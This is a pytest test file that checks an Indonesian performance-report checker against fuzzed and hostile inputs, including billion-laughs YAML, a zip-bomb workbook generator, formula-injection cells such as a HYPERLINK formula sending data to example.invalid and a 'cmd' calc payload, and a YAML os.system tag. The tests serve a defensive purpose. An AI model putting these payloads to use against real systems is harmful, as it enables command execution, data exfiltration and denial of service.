"""Input that cannot hurt: the reproducers of the fuzzing review (tests/data/fuzz/, copied from
shared/reviews/reliability/failures/), each an input error with its place, a bounded run, or a report
that is whole and inert."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sakip_checker.cli import main
from sakip_checker.conditions import Compiler, ConditionError
from sakip_checker.evaluate import evaluate
from sakip_checker.facts import FACT_TYPES
from sakip_checker.inputs import LIMITS
from sakip_checker.submission import load_submission

ROOT = Path(__file__).resolve().parent.parent
FUZZ = ROOT / "tests" / "data" / "fuzz"


def check(capsys, *args):
    code = main(["check", *[str(a) for a in args]])
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "kesalahan internal" not in err
    return code, out, err


# -- YAML / JSON: every case an input error with its file and line, within a second ------------------------

@pytest.mark.parametrize(("name", "where", "says"), [
    ("01-yaml-invalid-native-date.yaml", ":8:", "tanggal 2023-02-31 tidak ada di kalender"),
    ("02-yaml-complex-key.yaml", ":2:", "kunci harus berupa nama"),
    ("03-yaml-recursive-alias.yaml", ":2:", "alias merujuk ke dirinya sendiri"),
    ("04-yaml-deep-nesting.yaml", ":1:", "bersarang lebih dari 64 tingkat"),
    ("05-yaml-billion-laughs.yaml", ": ", "setelah alias diperluas"),
    ("06-json-int-5000-digits.json", ":1:", "5000 angka terlalu panjang"),
    ("07-yaml-number-over-28-digits.yaml", ":11: laporan_bulanan[0].capaian[0].realisasi:", "terlalu besar"),
    ("08-json-deep-nesting.json", ": ", "bersarang terlalu dalam"),
    ("09a-json-tiny-exponent-memory.json", ":36:", "di luar batas"),
    ("09b-json-big-exponent-cpu.json", ":35:", "di luar batas"),
    ("10-json-duplicate-keys.json", ":3:", "kunci 'profil' muncul dua kali"),
    ("21-yaml-year-typo-in-document.yaml", ":11: laporan_bulanan[0].tahun:", "tahun 20230 tidak masuk akal"),
])
def test_hostile_submissions_are_one_clear_line_and_exit_2(capsys, tmp_path, name, where, says):
    started = time.monotonic()
    code, out, err = check(capsys, FUZZ / name, "--format", "json", "-o", tmp_path / "hasil.json")
    assert code == 2
    assert len(err.strip().splitlines()) == 1
    assert f"{name}{where}" in err and says in err
    assert time.monotonic() - started < 10
    assert not (tmp_path / "hasil.json").exists()


def test_a_duplicate_key_deep_in_json_is_named_too(tmp_path, capsys):
    text = (FUZZ / "10-json-duplicate-keys.json").read_text().replace(
        ' "profil": {"opd": "Dinas Lain", "tahun": 2024},\n', "")
    path = tmp_path / "dup.json"
    path.write_text(text)
    code, _, err = check(capsys, path)
    assert code == 2 and "dup.json:33:" in err and "kunci 'bobot' muncul dua kali" in err


def test_yaml_integers_are_read_as_typed(tmp_path, capsys):
    sub, _ = load_submission(FUZZ / "13-yaml-octal-bobot.yaml")  # bobot: 0100
    assert sub.perjanjian_kinerja[0].indikator[0].bobot == Decimal(100)
    path = tmp_path / "p.yaml"
    path.write_text((FUZZ / "13-yaml-octal-bobot.yaml").read_text().replace("bobot: 0100", "bobot: 010"))
    assert load_submission(path)[0].perjanjian_kinerja[0].indikator[0].bobot == Decimal(10)
    path.write_text((FUZZ / "13-yaml-octal-bobot.yaml").read_text().replace("bobot: 0100", "bobot: 0x64"))
    code, _, err = check(capsys, path)  # hexadecimal is text, and text that is no number is refused
    assert code == 2 and "p.yaml:9: perjanjian_kinerja[0].indikator[0].bobot:" in err


def test_a_year_out_of_range_in_any_document_is_an_input_error(tmp_path, capsys):
    base = (FUZZ / "_base.yaml").read_text()
    path = tmp_path / "p.yaml"
    path.write_text(base.replace("perjanjian_kinerja:\n  - {id: PK-KARO, jabatan: KARO, tahun: 2023",
                                 "perjanjian_kinerja:\n  - {id: PK-KARO, jabatan: KARO, tahun: -2023"))
    code, _, err = check(capsys, path)
    assert code == 2 and "perjanjian_kinerja[0].tahun: tahun -2023 tidak masuk akal" in err


def test_limits_are_configurable_and_hold_for_one_run(tmp_path, capsys):
    path = tmp_path / "besar.yaml"
    path.write_text((FUZZ / "_base.yaml").read_text() + "# " + "x" * (1024 * 1024 + 10) + "\n")
    code, _, err = check(capsys, path, "--batas", "berkas_mb=1")
    assert code == 2 and "melebihi batas 1 MB" in err and "--batas berkas_mb" in err
    assert LIMITS.berkas_mb == 10  # restored after the run
    assert check(capsys, path, "--format", "json")[0] == 0  # the default allows it
    code, _, err = check(capsys, FUZZ / "_base.yaml", "--batas", "kedalaman=3")
    assert code == 2 and "bersarang lebih dari 3 tingkat" in err
    code, _, err = check(capsys, FUZZ / "_base.yaml", "--batas", "simpul=10")
    assert code == 2 and "lebih dari 10 nilai" in err
    code, _, err = check(capsys, FUZZ / "_base.yaml", "--batas", "apa=1")
    assert code == 2 and "nama batas tidak dikenal" in err


def test_rows_are_bounded_per_list_and_per_sheet(tmp_path, capsys):
    code, _, err = check(capsys, ROOT / "examples" / "biro-pemerintahan-otda-2023.yaml", "--batas", "baris=3")
    assert code == 2 and "biro-pemerintahan-otda-2023.yaml:13: daftar berisi 4 baris, melebihi batas 3" in err
    data = json.loads(json.dumps({"profil": {"opd": "X", "tahun": 2023},
                                  "renja": [{"uraian": f"Kegiatan {i}"} for i in range(30)]}))
    path = tmp_path / "renja.json"
    path.write_text(json.dumps(data))
    code, _, err = check(capsys, path, "--batas", "baris=20")
    assert code == 2 and "renja.json: renja: daftar berisi 30 baris, melebihi batas 20" in err
    code, _, err = check(capsys, ROOT / "examples" / "biro-pemerintahan-otda-2023.xlsx", "--batas", "baris=2")
    assert code == 2 and "biro-pemerintahan-otda-2023.xlsx [lembar " in err and "melebihi batas 2 baris data" in err


def test_the_packs_own_files_are_not_held_to_submission_limits(capsys):
    code, _, err = check(capsys, FUZZ / "_base.yaml", "--batas", "baris=1", "--batas", "simpul=10")
    assert code == 2 and len(err.splitlines()) == 1 and "_base.yaml: YAML berisi lebih dari 10 nilai" in err


def test_limits_from_the_environment(monkeypatch):
    from sakip_checker.inputs import _limits_from_env

    monkeypatch.setenv("SAKIP_BATAS_ALIAS", "7")
    monkeypatch.setenv("SAKIP_BATAS_SIMPUL", "nol")  # not a number: the default stays
    limits = _limits_from_env()
    assert limits.alias == 7 and limits.simpul == 1_000_000


def test_aliases_are_counted(tmp_path, capsys):
    path = tmp_path / "alias.yaml"
    path.write_text((FUZZ / "_base.yaml").read_text() + "catatan: &c [a]\nlain: [" + ", ".join(["*c"] * 5) + "]\n")
    code, _, err = check(capsys, path, "--batas", "alias=4")
    assert code == 2 and "lebih dari 4 alias" in err


def test_a_fifo_a_folder_and_a_device_are_refused_without_blocking(tmp_path, capsys):
    fifo = tmp_path / "pengajuan.yaml"
    os.mkfifo(fifo)
    code, _, err = check(capsys, fifo)
    assert code == 2 and "bukan berkas biasa" in err
    code, _, err = check(capsys, tmp_path)
    assert code == 2 and "folder" in err
    code, _, err = check(capsys, "/dev/zero")
    assert code == 2 and "bukan berkas biasa" in err


# -- the engine: a tujuan that names a parent, and a failure on one ruleset --------------------------------

def test_a_tujuan_that_names_a_parent_is_checked_not_an_engine_failure(catalogue, capsys, tmp_path):
    code, _, err = check(capsys, FUZZ / "22-yaml-tujuan-with-parent-engine-311.yaml", "--format", "json",
                         "-o", tmp_path / "hasil.json")
    assert code == 0, err
    report = json.loads((tmp_path / "hasil.json").read_text())
    assert report["engine_failures"] == []
    # a tujuan has no level above it to expect: UKR-009 does not judge its induk (no empty pass)
    ukr009 = next(c for c in report["coverage"] if c["rule_id"] == "UKR-009")
    assert ukr009["evaluated"] == 0 and ukr009["passed"] == 0 and not ukr009["engine_failed"]


def _pack_with_an_unguarded_join(catalogue, tmp_path: Path) -> Path:
    """A copy of the pack with one more rule whose join compares the parent's level with a unit field that a
    tujuan lacks (level_induk_diharapkan), without saying what happens when it is absent: without the loader's
    guard, durable-rules fails on its ruleset with error 311 for a tujuan that names a parent."""
    rules = tmp_path / "aturan"
    shutil.copytree(catalogue.root, rules / catalogue.root.name)
    source = rules / catalogue.root.name / "pengukuran" / "UKR-009_parent_one_level_up.yaml"
    text = source.read_text(encoding="utf-8")
    head, _, tail = text.partition("applies_when:")
    tail = tail[tail.index("fail_when:"):]
    trigger = (head.replace("id: UKR-009", "id: UKR-099").replace("pengukuran.parent_one_level_up",
                                                                   "pengukuran.parent_one_level_up_unguarded")
               + "applies_when: {exists: induk}\n" + tail)
    (source.parent / "UKR-099_parent_unguarded.yaml").write_text(trigger, encoding="utf-8")
    return rules


def test_a_unit_field_under_any_or_in_absent_is_refused_at_load():
    compiler = Compiler(FACT_TYPES)
    related_any = {"related": {"type": "indikator", "on": {"key": "induk"},
                               "where": {"any": [{"eq": {"level": "tujuan"}},
                                                 {"ne": {"level": {"unit": "level_induk_diharapkan"}}}]}}}
    with pytest.raises(ConditionError, match="galat 311"):
        compiler.compile_rule_condition(related_any, "indikator", "fail_when")
    absent = {"absent": {"type": "indikator", "on": {"key": "induk"},
                         "where": {"ne": {"level": {"unit": "level_induk_diharapkan"}}}}}
    with pytest.raises(ConditionError, match="galat 311"):
        compiler.compile_rule_condition(absent, "indikator", "fail_when")
    related = {"related": {"type": "indikator", "on": {"key": "induk"},
                           "where": {"ne": {"level": {"unit": "level_induk_diharapkan"}}}}}
    compiled = compiler.compile_rule_condition(related, "indikator", "fail_when")
    assert {"$ex": {"level_induk_diharapkan": 1}} in compiled.unit_conditions


def test_when_the_engine_fails_on_one_ruleset_everything_else_is_reported(catalogue, monkeypatch, tmp_path, capsys):
    """Without the guard, durable-rules fails with error 311 on the ruleset holding a join on an absent unit field
    (UKR-099 of _pack_with_an_unguarded_join): that ruleset's rules
    are named as not evaluated, every other rule is, and the report is written (exit 3)."""
    rules = _pack_with_an_unguarded_join(catalogue, tmp_path)
    pack = ["--rules", str(rules), "--paket", catalogue.root.name]
    monkeypatch.setattr(Compiler, "_unit_references", staticmethod(lambda part, path: []))
    out = tmp_path / "hasil.json"
    code = main(["check", str(FUZZ / "22-yaml-tujuan-with-parent-engine-311.yaml"), "--format", "json", "-o", str(out),
                 *pack])
    err = capsys.readouterr().err
    assert code == 3
    report = json.loads(out.read_text())
    assert len(report["engine_failures"]) == 1
    failed = set(report["engine_failures"][0]["rule_ids"])
    assert "UKR-099" in failed and "311" in report["engine_failures"][0]["message"]
    assert "UKR-099" in err and "tidak dinilai" in err
    coverage = {c["rule_id"]: c for c in report["coverage"]}
    assert all(coverage[r]["engine_failed"] and coverage[r]["evaluated"] == 0 for r in failed)
    others = [c for c in report["coverage"] if c["rule_id"] not in failed]
    assert others and not any(c["engine_failed"] for c in others)
    assert any(c["evaluated"] for c in others)
    assert {f["rule_id"] for f in report["findings"]} - failed  # findings of the other rulesets are kept
    markdown = tmp_path / "hasil.md"
    assert main(["check", str(FUZZ / "22-yaml-tujuan-with-parent-engine-311.yaml"), "-o", str(markdown), *pack]) == 3
    assert "Mesin aturan gagal" in markdown.read_text() and "gagal dinilai" in markdown.read_text()


# -- output: never live content, never the input overwritten, never an internal error ----------------------

def test_control_characters_do_not_break_the_findings_workbook(tmp_path, capsys):
    out = tmp_path / "hasil.xlsx"
    code, _, err = check(capsys, FUZZ / "11-yaml-control-char-xlsx-output.yaml", "--format", "xlsx", "-o", out)
    assert code == 0, err
    texts = [c.value for row in load_workbook(out)["Temuan"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("Indeks kepuasan\\x00 pengguna data" in t for t in texts)


def test_formula_injection_is_neutralised_in_csv_and_xlsx(tmp_path, capsys):
    source = FUZZ / "12-yaml-formula-injection.yaml"
    out = tmp_path / "hasil.csv"
    assert check(capsys, source, "--format", "csv", "-o", out)[0] == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";") for c in row]
    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")" in cells  # the name, as text
    assert not any(c[:1] in ("=", "+", "@") for c in cells)
    book = tmp_path / "hasil.xlsx"
    assert check(capsys, source, "--format", "xlsx", "-o", book)[0] == 0
    wb = load_workbook(book)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)  # shown, as text
    template = tmp_path / "isian.xlsx"
    assert main(["template", str(template), "--dari", str(source)]) == 0
    assert not any(c.data_type == "f" for ws in load_workbook(template).worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize(("value", "neutral"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("-", "-"), ("-7.912.100", "-7.912.100"),
    ("- 2,5 %", "- 2,5 %"), ("\tx", "'\tx"), ("biasa", "biasa"), (12, 12),
])
def test_neutral(value, neutral):
    from sakip_checker.reports.formats import neutral as neutralise

    assert neutralise(value) == neutral


def test_output_naming_the_input_is_refused_and_the_input_kept(tmp_path, capsys):
    path = tmp_path / "pengajuan.yaml"
    path.write_bytes((ROOT / "examples" / "biro-contoh-bersih-2023.yaml").read_bytes())
    before = path.read_bytes()
    code, _, err = check(capsys, path, "--format", "json", "-o", path)
    assert code == 2 and "sama dengan berkas pengajuan" in err
    assert path.read_bytes() == before
    code, _, err = check(capsys, path, "--format", "json", "-o", tmp_path / "." / "pengajuan.yaml")
    assert code == 2 and path.read_bytes() == before


@pytest.mark.parametrize(("output", "says"), [
    ("afile/hasil.json", "bagian jalurnya bukan folder"), ("adir", "ini folder"), ("/dev/full", "ruang disk penuh"),
    ("ro/hasil.json", "tidak ada izin menulis"),
])
def test_an_output_that_cannot_be_written_is_exit_2_with_one_line(tmp_path, capsys, output, says):
    (tmp_path / "afile").write_text("x")
    (tmp_path / "adir").mkdir()
    (tmp_path / "ro").mkdir()
    (tmp_path / "ro").chmod(0o500)
    if output == "ro/hasil.json" and os.access(tmp_path / "ro", os.W_OK):
        pytest.skip("running as a user who can write anywhere")
    target = output if output.startswith("/") else tmp_path / output
    code, _, err = check(capsys, FUZZ / "_base.yaml", "--format", "json", "-o", target)
    assert code == 2 and says in err and len(err.strip().splitlines()) == 1


def test_a_failed_run_leaves_no_partial_report_and_a_good_run_replaces_it(tmp_path, capsys):
    out = tmp_path / "hasil.json"
    assert check(capsys, FUZZ / "_base.yaml", "--format", "json", "-o", out)[0] == 0
    first = out.read_bytes()
    assert check(capsys, FUZZ / "01-yaml-invalid-native-date.yaml", "--format", "json", "-o", out)[0] == 2
    assert out.read_bytes() == first and [p.name for p in tmp_path.iterdir()] == ["hasil.json"]


def test_a_stdout_closed_by_the_reader_ends_quietly(tmp_path):
    read, write = os.pipe()
    os.close(read)
    done = subprocess.run([sys.executable, "-m", "sakip_checker.cli", "check", str(FUZZ / "_base.yaml")], stdout=write,
                          stderr=subprocess.PIPE, cwd=ROOT, timeout=120)
    os.close(write)
    assert done.returncode == 0 and done.stderr == b""


def test_a_set_value_with_a_yaml_tag_is_an_input_error(capsys):
    code, _, err = check(capsys, FUZZ / "_base.yaml", "--set", 'batas_laporan_bulanan_hari=!!python/object/apply:os.system ["true"]')
    assert code == 2 and "tag YAML" in err


# -- workbooks: nothing dropped, nothing unbounded ---------------------------------------------------------

@pytest.mark.parametrize(("name", "says"), [
    ("15-xlsx-data-on-row-2-dropped.xlsx", "[lembar Atestasi, baris 2]: baris 2 adalah baris petunjuk templat, tetapi "
                                           "berisi data (sel A2, B2, C2, D2)"),
    ("16-xlsx-second-profil-row-ignored.xlsx", "[lembar Profil, baris 4]: lembar ini hanya memuat satu baris data"),
    ("17-xlsx-unheaded-column-ignored.xlsx", "[lembar Indikator, baris 3]: sel T3 berada di luar kolom templat"),
    ("17b-xlsx-row-right-of-headers-dropped.xlsx", "[lembar Indikator, baris 4]: sel S4, T4, U4"),
    ("18-xlsx-one-far-cell-hang.xlsx", "[lembar Atestasi, sel B1048576]: kolom 'Dokumen': wajib diisi"),
])
def test_workbook_cells_the_reader_does_not_take_are_reported(capsys, name, says):
    started = time.monotonic()
    code, _, err = check(capsys, FUZZ / name)
    assert code == 2 and says in err
    assert time.monotonic() - started < 20


def _zip_bomb(path: Path, rows: int) -> None:
    """As failures/19-make-xlsx-zip-bomb.py, smaller: the Indikator sheet of a workbook replaced by many rows."""
    import re

    src = zipfile.ZipFile(FUZZ / "14-xlsx-percent-format.xlsx")
    wbx, rels = src.read("xl/workbook.xml").decode(), src.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(r'<sheet [^>]*name="Indikator"[^>]*r:id="([^"]+)"', wbx).group(1)
    rel = next(r for r in re.findall(r"<Relationship [^>]*>", rels) if f'Id="{rid}"' in r)
    part = "xl/" + re.search(r'Target="/?(?:xl/)?([^"]+)"', rel).group(1)
    head, tail = src.read(part).decode().split("</sheetData>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename != part:
                out.writestr(info, src.read(info.filename))
                continue
            info = zipfile.ZipInfo(part, date_time=(2000, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            with out.open(info, "w", force_zip64=True) as f:
                f.write(head.encode())
                row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1000
                for _ in range(rows // 1000):
                    f.write(row)
                f.write(("</sheetData>" + tail).encode())


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path, capsys):
    bomb = tmp_path / "bom.xlsx"
    _zip_bomb(bomb, 200_000)  # ~10 MB of XML in ~30 KB
    assert bomb.stat().st_size < 200_000
    started = time.monotonic()
    code, _, err = check(capsys, bomb, "--batas", "xlsx_mb=5")
    assert code == 2 and "melebihi batas 5 MB" in err and "xlsx_mb" in err
    assert time.monotonic() - started < 5


def test_a_workbook_with_too_many_cells_is_refused(tmp_path, capsys):
    code, _, err = check(capsys, ROOT / "examples" / "biro-pemerintahan-otda-2023.xlsx", "--batas", "sel=100")
    assert code == 2 and "melebihi batas 100" in err and "--batas sel" in err
    book = tmp_path / "gabung.xlsx"  # one merge over a whole sheet: openpyxl alone would never finish loading it
    with zipfile.ZipFile(ROOT / "examples" / "biro-contoh-bersih-2023.xlsx") as src, \
            zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A3:XFD1048576"/>'
                                                     b"</mergeCells>", 1)
            dst.writestr(info, data)
    started = time.monotonic()
    code, _, err = check(capsys, book)
    assert code == 2 and "gabung.xlsx: sel gabungan meliputi 17179836416 sel" in err
    assert time.monotonic() - started < 20


# -- numbers as printed, and the declared notation, through the model ------------------------------------

GOOD = (FUZZ / "_base.yaml").read_text()


def test_a_declared_notation_settles_ambiguous_numbers(tmp_path, capsys):
    path = tmp_path / "p.yaml"
    ambiguous = GOOD.replace('target: "3,40", penanggung_jawab', 'target: "1.500", penanggung_jawab')
    path.write_text(ambiguous)
    code, _, err = check(capsys, path)
    assert code == 2 and "p.yaml:6: indikator[0].target:" in err and "bermakna ganda" in err
    path.write_text(ambiguous.replace("tahun: 2023}", "tahun: 2023, notasi: indonesia}", 1))
    assert load_submission(path)[0].indikator[0].target.value == Decimal(1500)
    path.write_text(ambiguous.replace("tahun: 2023}", "tahun: 2023, notasi: internasional}", 1))
    assert load_submission(path)[0].indikator[0].target.value == Decimal("1.5")
    path.write_text(ambiguous.replace("tahun: 2023}", "tahun: 2023, notasi: inggris}", 1))
    code, _, err = check(capsys, path)
    assert code == 2 and "profil.notasi:" in err


def test_a_rupiah_cell_with_three_decimals_names_sheet_and_cell(tmp_path, capsys):
    from sakip_checker.excel import write_workbook

    sub, _ = load_submission(ROOT / "examples" / "biro-pemerintahan-otda-2023.yaml")
    book = tmp_path / "isian.xlsx"
    write_workbook(book, sub)
    wb = load_workbook(book)
    ws = wb["Rencana Aksi"]
    column = next(c.column_letter for c in ws[1] if c.value == "Pagu (Rp)")
    ws[f"{column}3"] = "2.500,000"
    ws["J3"] = "1.500"  # ambiguous in a %/scale column, read as thousands only when declared
    wb.save(book)
    code, _, err = check(capsys, book)
    assert code == 2
    assert f"[lembar Rencana Aksi, sel {column}3]: kolom 'Pagu (Rp)': jumlah Rupiah \"2.500,000\"" in err
    wb = load_workbook(book)
    wb["Rencana Aksi"][f"{column}3"] = "2.500"  # one group of three in Rupiah: thousands
    wb["Profil"]["J3"] = "indonesia"
    wb.save(book)
    sub, _ = load_submission(book)
    assert sub.profil.notasi == "indonesia" and sub.rencana_aksi.baris[0].pagu == Decimal(2500)


def test_a_damaged_workbook_is_an_input_error(tmp_path, capsys):
    raw = bytearray((ROOT / "examples" / "biro-contoh-bersih-2023.xlsx").read_bytes())
    for at in range(200, len(raw) - 200, 997):  # bytes flipped all over the zip: CRC errors
        raw[at] ^= 0xFF
    path = tmp_path / "rusak.xlsx"
    path.write_bytes(bytes(raw))
    code, _, err = check(capsys, path)
    assert code == 2 and "rusak.xlsx: bukan buku kerja Excel (.xlsx) yang dapat dibaca" in err


def test_a_percent_cell_is_read_as_the_percent_the_planner_sees(tmp_path):
    sub, _ = load_submission(FUZZ / "14-xlsx-percent-format.xlsx")  # 91,18% typed: 0.9118 with format 0.00%
    assert sub.laporan_bulanan[0].capaian[0].capaian == Decimal("91.18")
    book = tmp_path / "persen.xlsx"
    wb = load_workbook(FUZZ / "14-xlsx-percent-format.xlsx")
    ws = wb["Laporan Bulanan"]
    column = next(c.column_letter for c in ws[1] if c.value == "Capaian (%)")
    ws[f"{column}3"], ws[f"{column}3"].number_format = 1, "0%"  # 100% typed
    wb.save(book)
    assert load_submission(book)[0].laporan_bulanan[0].capaian[0].capaian == Decimal(100)
    from sakip_checker.excel import _is_percent

    assert _is_percent("0.00%") and _is_percent("#,##0%") and not _is_percent('0.00"%"') and not _is_percent("0\\%")


def test_nesting_beyond_libyamls_own_bound_is_said_in_indonesian(tmp_path, capsys):
    path = tmp_path / "dalam.yaml"
    path.write_text("profil: " + "[" * 5000 + "]" * 5000 + "\n")
    code, _, err = check(capsys, path)
    assert code == 2 and "dalam.yaml:1: YAML tidak sah: bersarang terlalu dalam (batas 64 tingkat)" in err


def test_an_output_through_a_symlink_writes_where_it_points(tmp_path, capsys):
    target = tmp_path / "laporan" / "hasil.json"
    target.parent.mkdir()
    target.write_text("lama")
    link = tmp_path / "tautan.json"
    link.symlink_to(target)
    assert check(capsys, FUZZ / "_base.yaml", "--format", "json", "-o", link)[0] == 0
    assert link.is_symlink() and json.loads(target.read_text())["submission"]["opd"] == "Biro Contoh"
